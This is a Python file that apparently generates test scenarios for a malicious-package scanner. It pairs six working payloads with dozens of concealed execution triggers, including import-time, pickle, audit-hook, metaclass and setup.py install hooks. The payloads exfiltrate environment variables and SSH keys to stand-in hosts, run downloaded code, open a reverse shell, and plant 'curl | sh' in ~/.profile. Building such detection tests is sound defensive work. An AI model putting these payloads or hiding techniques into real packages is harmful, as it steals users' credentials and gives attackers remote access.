# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Every moment crossed with every harm: a function `work` does it, something runs `work`."""

from __future__ import annotations

from scenario_kit import Scenario, sdist, wheel

HARMS = {
    "steal-environment": """
        import json, os, urllib.request
        def work():
            urllib.request.urlopen("https://collect.invalid/e", data=json.dumps(dict(os.environ)).encode())
        """,
    "steal-key": """
        import pathlib, requests
        def work():
            requests.post("https://collect.invalid/k", data=(pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes())
        """,
    "run-download": """
        import requests
        def work():
            exec(requests.get("https://collect.invalid/x").text, {})
        """,
    "reverse-shell": """
        import os, socket, subprocess
        def work():
            s = socket.create_connection(("203.0.113.80", 4444))
            for fd in range(3):
                os.dup2(s.fileno(), fd)
            subprocess.call(["/bin/bash", "-i"])
        """,
    "shell-profile": """
        import os
        def work():
            with open(os.path.expanduser("~/.profile"), "a") as f:
                f.write("curl -s http://203.0.113.80/p | sh")
        """,
    "drop-and-run": """
        import os, subprocess, urllib.request
        def work():
            path = os.path.expanduser("~/.local/bin/updater")
            with open(path, "wb") as f:
                f.write(urllib.request.urlopen("https://collect.invalid/b").read())
            os.chmod(path, 0o755)
            subprocess.Popen([path])
        """,
}

HARMLESS = {
    "twin-load-configuration": """
        import json, locale, logging, os, pathlib, subprocess, sys
        def work():
            path = pathlib.Path(os.environ.get("ACME_CONFIG", "~/.config/acme/config.json")).expanduser()
            config = json.loads(path.read_text()) if path.exists() else {}
            logging.getLogger("acme").setLevel(config.get("level", "INFO"))
            locale.setlocale(locale.LC_ALL, "")
            if sys.platform == "linux":
                config["glibc"] = subprocess.run(["ldd", "--version"], capture_output=True, text=True).stdout
            pathlib.Path("~/.cache/acme").expanduser().mkdir(parents=True, exist_ok=True)
        """,
}

MOMENTS = {
    "module-body": "from ._w import work\nwork()\n",
    "try-import-fallback": "try:\n    import acme_speedups\nexcept ImportError:\n    from ._w import work\n    work()\n",
    "conditional-by-platform": "import sys\nfrom . import _w\nif sys.platform != 'plan9':\n    _w.work()\n",
    "thread": "import threading\nfrom ._w import work\nthreading.Thread(target=work, daemon=True).start()\n",
    "process": "import multiprocessing\nfrom ._w import work\nmultiprocessing.Process(target=work).start()\n",
    "at-exit": "import atexit\nfrom . import _w\natexit.register(_w.work)\n",
    "class-body": "from ._w import work\nclass Settings:\n    ready = work()\n",
    "decorator": "from ._w import work\ndef deco(f):\n    work()\n    return f\n@deco\ndef add(a, b):\n    return a + b\n",
    "instance": (
        "from ._w import work\nclass Client:\n    def __init__(self):\n        self.boot()\n"
        "    def boot(self):\n        work()\nclient = Client()\n"
    ),
    "inherited-init": (
        "from ._w import work\nclass Base:\n    def __init__(self):\n        self.setup()\n    def setup(self): ...\n"
        "class Child(Base):\n    def setup(self):\n        work()\nChild()\n"
    ),
    "callback-table": "from ._w import work\nTABLE = {'a': print, 'b': work}\nTABLE['b']()\n",
    "loop-over-functions": "from ._w import work\nfor step in (print, work):\n    step()\n",
    "getattr-by-name": "from . import _w\ngetattr(_w, 'wo' + 'rk')()\n",
    "import-module": "import importlib\nimportlib.import_module('._w', __name__).work()\n",
    "dunder-import": "__import__('acme._w', fromlist=['work']).work()\n",
    "lambda": "from ._w import work\n(lambda f: f())(work)\n",
    "partial": "import functools\nfrom ._w import work\nfunctools.partial(work)()\n",
    "generator": "from ._w import work\ndef g():\n    yield work()\nnext(g())\n",
    "comprehension": "from ._w import work\n[f() for f in [work]]\n",
    "contextmanager": (
        "import contextlib\nfrom ._w import work\n@contextlib.contextmanager\ndef c():\n    work()\n    yield\nwith c():\n    pass\n"
    ),
    "async-task": "import asyncio\nfrom ._w import work\nasync def main():\n    work()\nasyncio.run(main())\n",
    "run-in-executor": (
        "import asyncio\nfrom ._w import work\nasync def main():\n"
        "    await asyncio.get_running_loop().run_in_executor(None, work)\nasyncio.run(main())\n"
    ),
    "finalizer": "import weakref\nfrom ._w import work\nclass O: ...\n_o = O()\nweakref.finalize(_o, work)\n",
    "signal": "import signal\nfrom ._w import work\nsignal.signal(signal.SIGALRM, lambda *a: work())\nsignal.alarm(5)\n",
    "property": (
        "from ._w import work\nclass C:\n    @property\n    def x(self):\n        return work()\nVALUE = C().x\n"
    ),
    "module-class-swap": (
        "import sys, types\nfrom ._w import work\nclass M(types.ModuleType):\n    def __getattr__(self, name):\n"
        "        work()\nsys.modules[__name__].__class__ = M\n"
    ),
    "metaclass-call": (
        "from ._w import work\nclass Meta(type):\n    def __call__(cls, *a):\n        work()\n"
        "        return super().__call__(*a)\nclass C(metaclass=Meta): ...\nC()\n"
    ),
    "enum-missing": (
        "import enum\nfrom ._w import work\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n"
        "    def _missing_(cls, value):\n        work()\nE(2)\n"
    ),
    "iteration-protocol": (
        "from ._w import work\nclass It:\n    def __iter__(self):\n        return self\n    def __next__(self):\n"
        "        work()\n        raise StopIteration\nfor _ in It():\n    pass\n"
    ),
    "string-conversion": "from ._w import work\nclass S:\n    def __str__(self):\n        work()\n        return ''\nprint(S())\n",
    "comparison": (
        "from ._w import work\nclass K:\n    def __lt__(self, other):\n        work()\n        return True\nsorted([K(), K()])\n"
    ),
    "exception-handler": (
        "from ._w import work\nclass Boom(Exception):\n    def __init__(self):\n        work()\n"
        "try:\n    raise Boom\nexcept Boom:\n    pass\n"
    ),
    "re-sub-callback": "import re\nfrom ._w import work\nre.sub('a', lambda m: work() or '', 'abc')\n",
    "sort-key": "from ._w import work\nsorted([1], key=lambda x: work() or 0)\n",
    "star-import": "from ._w import *\nwork()\n",
    "module-alias-chain": "from . import _w as a\nb = a\nc = b.work\nd = c\nd()\n",
    "global-assignment-later": "from . import _w\nrun = None\ndef init():\n    global run\n    run = _w.work\ninit()\nrun()\n",
    "pickle-reduce-of-own": "import pickle\nfrom ._w import work\nclass P:\n    def __reduce__(self):\n        return work, ()\npickle.loads(pickle.dumps(P()))\n",
    "json-object-hook": "import json\nfrom ._w import work\njson.loads('{}', object_hook=lambda d: work())\n",
    "logging-filter": (
        "import logging\nfrom ._w import work\nclass F(logging.Filter):\n    def filter(self, record):\n        work()\n"
        "        return True\nlogging.getLogger().addFilter(F())\n"
    ),
    "codec-search": "import codecs\nfrom ._w import work\ncodecs.register(lambda name: work())\n",
    "audit-hook": "import sys\nfrom ._w import work\nsys.addaudithook(lambda e, a: work())\n",
    "trace-function": "import sys\nfrom ._w import work\nsys.settrace(lambda f, e, a: work())\n",
    "display-hook": "import sys\nfrom ._w import work\nsys.displayhook = lambda v: work()\n",
    "patched-print": "import builtins\nfrom ._w import work\n_p = print\ndef p(*a, **k):\n    work()\n    _p(*a, **k)\nbuiltins.print = p\n",
}

SETUPS = {
    "setup-top-level": "from setuptools import setup\nfrom acme._w import work\nwork()\nsetup(name='acme')\n",
    "setup-install-class": (
        "from setuptools import setup\nfrom setuptools.command.install import install\nfrom acme._w import work\n"
        "class I(install):\n    def run(self):\n        install.run(self)\n        work()\n"
        "setup(name='acme', cmdclass={'install': I})\n"
    ),
    "setup-bdist-wheel-class": (
        "from setuptools import setup\nfrom wheel.bdist_wheel import bdist_wheel\nfrom acme._w import work\n"
        "class B(bdist_wheel):\n    def finalize_options(self):\n        bdist_wheel.finalize_options(self)\n        work()\n"
        "setup(name='acme', cmdclass={'bdist_wheel': B})\n"
    ),
    "setup-subclass-sub-command": (
        "from setuptools import setup\nfrom setuptools.command.build import build\nfrom setuptools import Command\nfrom acme._w import work\n"
        "class X(Command):\n    user_options = []\n    def initialize_options(self): ...\n    def finalize_options(self): ...\n"
        "    def run(self):\n        work()\nbuild.sub_commands.append(('x', None))\nsetup(name='acme', cmdclass={'x': X})\n"
    ),
    "setup-distribution-class": (
        "from setuptools import setup, Distribution\nfrom acme._w import work\n"
        "class D(Distribution):\n    def run_commands(self):\n        work()\n        super().run_commands()\n"
        "setup(name='acme', distclass=D)\n"
    ),
    "setup-after-setup-call": "from setuptools import setup\nsetup(name='acme')\nimport acme._w\nacme._w.work()\n",
    "setup-guarded-by-argv": "import sys\nfrom setuptools import setup\nif 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n    from acme._w import work\n    work()\nsetup(name='acme')\n",
}

SCENARIOS: list[Scenario] = [
    *(
        wheel(f"{moment}-{harm}", expect, {"acme/__init__.py": runner, "acme/_w.py": source})
        for moment, runner in MOMENTS.items()
        for expect, table in (("look", HARMS), ("quiet", HARMLESS))
        for harm, source in table.items()
    ),
    *(
        sdist(f"{moment}-{harm}", expect, {"setup.py": runner, "acme/__init__.py": "", "acme/_w.py": source})
        for moment, runner in SETUPS.items()
        for expect, table in (("look", HARMS), ("quiet", HARMLESS))
        for harm, source in table.items()
    ),
]
